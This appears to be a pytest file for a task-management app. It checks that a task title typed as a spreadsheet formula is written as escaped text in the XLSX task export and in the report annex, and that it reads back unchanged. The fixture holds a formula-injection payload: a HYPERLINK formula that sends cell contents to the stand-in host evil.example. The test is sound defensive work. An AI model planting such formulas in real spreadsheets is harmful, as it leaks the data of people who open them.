"""M4 (issue 12): a task title typed as a formula is written as text in the task export and
in the report's annex, and reads back as typed."""

from __future__ import annotations

import datetime as dt
from pathlib import Path

from openpyxl import load_workbook
from sqlalchemy import select
from sqlalchemy.orm import Session

from chiso.reports.service import generate_report
from chiso.tasks.models import Task
from chiso.tasks.service import create_task, list_tasks
from chiso.tasks.xlsx import export_tasks, import_tasks
from tests.tasks_support import TODAY, build_world, on_day, system

FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào đây")'


def _formula_task(session: Session) -> Task:
    w = build_world(session)
    task = create_task(session, title=FORMULA, lead_unit_id=w.khcn.id,
                       due_date=dt.date(2025, 9, 20), start_date=dt.date(2025, 7, 1),
                       access=system(session), recorded_at=on_day(dt.date(2025, 7, 2)))
    session.commit()
    return task


def _cells_with(path: Path, text: str) -> list:  # type: ignore[type-arg]
    """Cells that hold `text` at their start (as typed, or guarded by a leading ')."""
    wb = load_workbook(path)  # formulas stay formulas (data_only=False)
    return [c for ws in wb.worksheets for row in ws.iter_rows() for c in row
            if isinstance(c.value, str) and c.value.lstrip("'").startswith(text)]


def test_the_task_export_writes_a_formula_title_as_text(session: Session, tmp_path: Path
                                                        ) -> None:
    task = _formula_task(session)
    path = export_tasks(list_tasks(session, day=TODAY), tmp_path / "nv.xlsx", session=session)
    cells = _cells_with(path, "=HYPERLINK")
    assert cells and all(c.data_type == "s" and c.value == "'" + FORMULA for c in cells)
    summary = import_tasks(session, path, access=system(session))  # the export reads back
    assert task.code in summary.unchanged
    assert session.scalar(select(Task.title).where(Task.id == task.id)) == FORMULA


def test_the_report_annex_writes_a_formula_title_as_text(session: Session, tmp_path: Path
                                                         ) -> None:
    _formula_task(session)
    files = generate_report(session, unit_code="20", kind="quarterly", period="2025Q3",
                            out_dir=tmp_path, today=dt.date(2025, 11, 1), pdf=False,
                            access=system(session))
    cells = _cells_with(files.xlsx, "=HYPERLINK")
    assert cells and all(c.data_type == "s" and c.value.startswith("'=") for c in cells)
